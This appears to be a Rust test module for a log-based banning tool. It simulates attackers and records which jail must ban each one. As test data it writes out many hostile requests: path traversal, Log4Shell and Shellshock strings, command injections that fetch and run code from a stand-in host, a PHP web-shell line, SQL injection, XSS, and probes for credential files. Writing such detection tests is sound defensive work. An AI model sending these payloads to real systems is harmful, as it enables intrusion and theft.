//! Every kind of attacker that the shipped filters name, each with whom it must get banned, and by which jail.

use super::day::{BROWSERS, Client, Clock, Day, HOUR, MINUTE, SECOND};
use super::others::{
    DENIED, NOBODY, UNREADABLE, apache, gitea, grafana, haproxy, nextcloud, nginx, roundcube, socket,
    vaultwarden,
};

/// Who has to be banned, and by which jail.
pub(super) type Expected = Vec<(String, &'static str)>;

/// The attackers of a day, who have addresses of their own.
struct Attack<'d> {
    day: &'d mut Day,
    expected: Expected,
    given: u32,
}

impl Attack<'_> {
    /// One more attacker, on whom this jail must fall; every fourth has IPv6.
    fn attacker(&mut self, jail: &'static str) -> (Client, Clock) {
        self.given += 1;
        let n = self.given;
        let v6 = n.is_multiple_of(4);
        let address =
            if v6 { format!("2001:db8:{n:x}:1::bad") } else { format!("203.0.{}.{}", n / 200, n % 200 + 1) };
        let ban = if v6 { format!("2001:db8:{n:x}:1::/64") } else { address.clone() };
        self.expected.push((ban, jail));
        let agent = BROWSERS[n as usize % BROWSERS.len()];
        (Client::new(&address, agent), HOUR + self.day.random.below(22 * HOUR))
    }

    /// An attacker who makes these requests, so long apart.
    fn asks<'r>(
        &mut self,
        jail: &'static str,
        pause: Clock,
        requests: impl IntoIterator<Item = (&'r str, u16)>,
    ) {
        let (who, at) = self.attacker(jail);
        self.day.ask_each(&who, at, pause, requests);
    }

    /// The same request so often.
    fn repeats(&mut self, jail: &'static str, count: usize, pause: Clock, request: &str, status: u16) {
        self.asks(jail, pause, std::iter::repeat_n((request, status), count));
    }

    /// So many lines of a log that has no requests.
    fn logs(&mut self, jail: &'static str, count: u32, write: impl Fn(&mut Day, Clock, &str)) {
        let (who, at) = self.attacker(jail);
        (0..count).for_each(|n| write(self.day, at + n * 40 * SECOND, &who.address));
    }
}

/// The longest pause with which `count` requests are still within `minutes`.
fn slowest(count: u32, minutes: u32) -> Clock {
    minutes * MINUTE / (count - 1) / SECOND * SECOND
}

fn passwords(attack: &mut Attack<'_>) {
    for request in ["POST /wp-login.php", "POST /blog/wp-login.php/x", "POST //wp%2Dlogin.php?action=login"] {
        attack.repeats("wordpress-login", 5, SECOND, request, 200);
        attack.repeats("wordpress-login", 5, slowest(5, 10), request, 401);
    }
    attack.repeats("wordpress-xmlrpc", 20, 2 * SECOND, "POST /xmlrpc.php", 200);
    attack.repeats("wordpress-xmlrpc", 20, slowest(20, 5), "POST /blog/xmlrpc.php", 403);
    for (path, status) in [
        ("/login", 401),
        ("/user/signin", 403),
        ("/session", 422),
        ("/api/auth", 401),
        ("/oauth/token", 401),
        ("/admin/login.php", 404),
    ] {
        let request = format!("POST {path}");
        attack.repeats("login-posts", 10, SECOND, &request, status);
        attack.repeats("login-posts", 10, slowest(10, 10), &request, status);
    }
    for pause in [SECOND, slowest(8, 10)] {
        let (who, at) = attack.attacker("http-auth");
        attack.day.ask_each(&who.named("admin"), at, pause, [("GET /private/", 401); 8]);
    }
}

fn scanners(attack: &mut Attack<'_>) {
    let families: [&[(&str, u16)]; 8] = [
        &[("GET /.env", 404), ("GET /api/.env.production", 404), ("GET /.env.bak", 200)],
        &[("GET /.git/config", 404), ("GET /.aws/credentials", 403), ("GET /.ssh/id_rsa", 404)],
        &[("GET /.vscode/sftp.json", 404), ("GET /.DS_Store", 404), ("GET /shop/.git/HEAD", 200)],
        &[("GET /backup.sql", 404), ("GET /wp-config.php.bak", 404), ("GET /index.php~", 404)],
        &[
            ("GET /c99.php", 404),
            ("GET /wso.php", 404),
            ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
        ],
        &[("GET /phpmyadmin/", 404), ("GET /adminer.php", 404), ("GET /actuator/env", 404)],
        &[("GET /server-status", 403), ("GET /solr/admin/info", 404), ("GET /boaform/admin/formLogin", 404)],
        &[("GET /%2eenv", 404), ("GET //.git//config", 404), ("GET /x/../backup.sql", 404)],
    ];
    for family in families {
        attack.asks("probe-paths", SECOND, family.iter().copied());
        attack.asks("probe-paths", slowest(3, 10), family.iter().copied());
    }
    let different: Vec<String> = (0..30).map(|n| format!("GET /admin-{n}.php")).collect();
    for (status, pause) in [(404, SECOND), (403, slowest(30, 2)), (400, SECOND), (405, SECOND)] {
        attack.asks("http-errors", pause, different.iter().map(|request| (request.as_str(), status)));
    }
    attack.asks(
        "user-enumeration",
        SECOND,
        [("GET /?author=1", 301), ("GET /?author=2", 404), ("GET /?author=3", 301), ("GET /?author=4", 200)],
    );
    let users: Vec<String> = (1..=4).map(|n| format!("GET /wp-json/wp/v2/users/{n}")).collect();
    attack.asks("user-enumeration", slowest(4, 10), users.iter().map(|request| (request.as_str(), 401)));
    attack.asks("trap", SECOND, [("GET /cellar/", 404)]);
    attack.asks("trap", SECOND, [("GET /%63ellar/wine?x=1", 200)]);
}

/// What each word of the list of exploits is, spelled in every way.
const EXPLOITS: [&str; 44] = [
    "GET /../../../../etc/passwd",
    "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
    "GET /%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "GET /%252e%252e%252f%252e%252e%252fwindows%252fwin.ini",
    "GET /%25252e%25252e%25252f%25252e%25252e%25252fboot.ini",
    "GET /scripts/..%c0%af..%c0%af..%c0%afwinnt/system32/cmd.exe?/c+dir",
    "GET /..%5c..%5c..%5cboot.ini",
    "GET /%u002e%u002e/%u002e%u002e/etc/passwd",
    "GET /\\x5C..\\x5C..\\x5Cboot.ini",
    "GET /view?file=../../../../etc/passwd",
    "GET /view?file=..%252f..%252f..%252fwp-config.php",
    "GET /static/../../app/settings.py",
    "GET /../app",
    "GET /tmui/login.jsp/..;/tmui/system/user.jsp",
    "GET /a/..;/manager/html",
    "GET /etc/passwd",
    "GET /a/b/etc/passwd",
    "GET /index.php?page=/etc/passwd",
    "GET /index.php?page=file%3A%2F%2F%2Fetc%2Fpasswd%00",
    "GET /WEB-INF/web.xml",
    "GET /a/b/c/WEB-INF/web.xml",
    "GET /app/META-INF/MANIFEST.MF",
    "GET /dl?path=WEB-INF/web.xml",
    "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D",
    "GET /?x=${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.9/a}",
    "GET /?x=${${env:BARFOO:-j}ndi:ldap://198.51.100.9/a}",
    "GET /?x=${jn${lower:d}i:ldap://198.51.100.9/a}",
    "GET /?x=${script:javascript:java.lang.Runtime.getRuntime()}",
    "GET /x?name={{7*7}}",
    "GET /x?redirect:${%23a=(new+java.lang.ProcessBuilder(1))}",
    "GET /x?a=$(curl+http://198.51.100.9/x)",
    "GET /x?a=%60id%60",
    "GET /x?a=;wget${IFS}http://198.51.100.9/x",
    "GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "GET /index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system",
    "GET /x?cmd=%3C%3Fphp%20system(1)%3B",
    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/a;sh+/tmp/a",
    "GET /ping?host=127.0.0.1;cat+/etc/hosts",
    "GET /ping?host=127.0.0.1%7Ccat%20%2Fetc%2Fhosts",
    "CONNECT www.google.com:443",
    "GET http://azenv.net/",
    "GET http://www.example.com/",
    "HEAD http://www.google.com:80/",
];

fn exploits(attack: &mut Attack<'_>) {
    for request in EXPLOITS {
        attack.asks("exploit-requests", SECOND, [(request, 404)]);
    }
    for text in [
        "${jndi:ldap://198.51.100.9:1389/a}",
        "() { :;}; /bin/bash -c \\x22curl http://198.51.100.9/x\\x22",
        "<?php system($_GET[0]); ?>",
        "x;wget http://198.51.100.9/a",
    ] {
        let (who, at) = attack.attacker("exploit-requests");
        attack.day.ask(&Client::new(&who.address, text), at, "GET /", 200);
    }
    let (who, at) = attack.attacker("exploit-requests");
    attack.day.ask(&who.coming_from("${jndi:${lower:l}${lower:d}ap://198.51.100.9/a}"), at, "GET /", 200);
}

fn injections(attack: &mut Attack<'_>) {
    let kinds = [
        "1+UNION+SELECT+1,2,",
        "1%2520union%2520select%2520",
        "1%252527%252520or%2525201%25253d",
        "1+or+1=",
        "(select+x+from+information_schema.tables)",
        "1)+and+sleep(5)--+",
        "admin%27--%20&x=",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%u003Cscript%u003E",
        "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "javascript:alert(document.cookie)",
    ];
    for (kind, pause) in kinds.into_iter().zip([SECOND, slowest(5, 10)].into_iter().cycle()) {
        let requests: Vec<String> = (1..=5).map(|n| format!("GET /p{n}?id={kind}{n}")).collect();
        attack.asks("injection-probes", pause, requests.iter().map(|request| (request.as_str(), 200)));
    }
}

fn noise(attack: &mut Attack<'_>) {
    let protocols = [
        "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03",
        "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
        "\\x05\\x01\\x00",
        "\\x04\\x01\\x00P\\x08\\x08\\x08\\x08\\x00",
        "SSH-2.0-Go",
        "OPTIONS sip:nm SIP/2.0",
    ];
    for (n, bytes) in protocols.iter().enumerate() {
        let (who, at) = attack.attacker("bad-request");
        let who = Client::new(&who.address, "-");
        let pause = if n % 2 == 0 { SECOND } else { slowest(5, 10) };
        (0..5).for_each(|n| attack.day.say(&who, at + n * pause, bytes, 400));
    }
    for agent in [
        "Mozilla/5.00 (Nikto/2.1.6)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "WPScan v3.8.25 (https://wpscan.com/)",
        "masscan/1.3",
        "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "ZmEu",
        "Fuzz Faster U Fool v2.1.0",
    ] {
        declared(attack, "bad-bots", agent, 2, slowest(2, 10));
    }
    attack.repeats("bad-bots", 2, SECOND, "GET /w00tw00t.at.ISC.SANS.DFind:)", 400);
    declared(attack, "seo-bots", "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", 10, MINUTE);
    declared(
        attack,
        "ai-crawlers",
        "Mozilla/5.0 (compatible; Bytespider; spider-feedback@bytedance.com)",
        10,
        MINUTE,
    );
}

/// Somebody who says what he is.
fn declared(attack: &mut Attack<'_>, jail: &'static str, agent: &str, count: u32, pause: Clock) {
    let (who, at) = attack.attacker(jail);
    let who = Client::new(&who.address, agent);
    (0..count).for_each(|n| attack.day.ask(&who, at + n * pause, "GET /", 200));
}

fn servers(attack: &mut Attack<'_>) {
    attack.logs("nginx-limits", 10, |day, at, who| {
        nginx(day, at, who, "error", "limiting requests, excess: 1.000 by zone \"one\"");
    });
    attack.logs("nginx-limits", 10, |day, at, who| {
        nginx(day, at, who, "error", "limiting connections by zone \"two\"");
    });
    attack.logs("nginx-denied", 10, |day, at, who| nginx(day, at, who, "error", "access forbidden by rule"));
    attack.logs("modsecurity-denied", 10, |day, at, who| {
        apache(day, at, who, &DENIED.replace("192.0.2.99", who));
    });
    attack.logs("modsecurity-denied", 10, |day, at, who| {
        nginx(
            day,
            at,
            who,
            "error",
            &format!(
                "[client {who}] ModSecurity: Access denied with code 403 (phase 2). Matched \"x\" [uri \"/\"]"
            ),
        );
    });
    attack.logs("haproxy-noserver", 10, |day, at, who| haproxy(day, at, who, NOBODY, "GET /x HTTP/1.1"));
    attack.logs("haproxy-badrequest", 10, |day, at, who| haproxy(day, at, who, UNREADABLE, "<BADREQ>"));
}

fn applications(attack: &mut Attack<'_>) {
    attack.logs("nextcloud-login", 5, |day, at, who| {
        nextcloud(day, at, who, "Login failed: admin (Remote IP: 9.9.9.9)");
    });
    attack.logs("vaultwarden-login", 5, |day, at, who| {
        vaultwarden(
            day,
            at,
            &format!("[ERROR] Username or password is incorrect. Try again. IP: {who}. Username: admin."),
        );
    });
    attack.logs("gitea-login", 5, |day, at, who| {
        gitea(
            day,
            at,
            &format!(
                "Failed authentication attempt for admin from {}: user does not exist [uid: 0, name: admin]",
                socket(who)
            ),
        );
    });
    attack.logs("grafana-login", 5, |day, at, who| grafana(day, at, who, 401));
    attack.logs("roundcube-login", 5, |day, at, who| {
        roundcube(day, at, &format!("Failed login for admin from {who} in session epf86f9475 (error: 0)"));
    });
}

/// Many addresses of one network, each of which does little: the network is banned, and nobody of it alone.
fn networks(attack: &mut Attack<'_>) {
    for host in 0..8 {
        let v6 = Client::new(&format!("2001:db8:f00d:{host:x}::1"), BROWSERS[0]);
        attack.day.ask(&v6, 4 * HOUR + host * MINUTE, "POST /wp-login.php", 200);
        let v4 = Client::new(&format!("198.51.101.{host}"), BROWSERS[0]);
        attack.day.ask(&v4, 5 * HOUR + host * MINUTE, "POST /wp-login.php", 200);
    }
    attack.expected.push(("2001:db8:f00d::/48".to_owned(), "wordpress-login"));
    attack.expected.push(("198.51.101.0/24".to_owned(), "wordpress-login"));
    for n in 0..600 {
        let v4 = Client::new(&format!("198.51.100.{}", n % 40), BROWSERS[1]);
        attack.day.ask(&v4, 7 * HOUR + n * SECOND / 2, &format!("GET /search?q=a{n}"), 200);
        let v6 = Client::new(&format!("2001:db8:beef:7::{n:x}"), BROWSERS[1]);
        attack.day.ask(&v6, 8 * HOUR + n * SECOND / 2, &format!("GET /alice/repo/blame/main/f{n}"), 200);
    }
    attack.expected.push(("198.51.100.0/24".to_owned(), "expensive-paths"));
    attack.expected.push(("2001:db8:beef:7::/64".to_owned(), "expensive-paths"));
}

/// All of them; returns whom they must get banned.
pub(super) fn all(day: &mut Day) -> Expected {
    let mut attack = Attack { day, expected: Expected::new(), given: 0 };
    passwords(&mut attack);
    scanners(&mut attack);
    exploits(&mut attack);
    injections(&mut attack);
    noise(&mut attack);
    servers(&mut attack);
    applications(&mut attack);
    networks(&mut attack);
    attack.expected
}
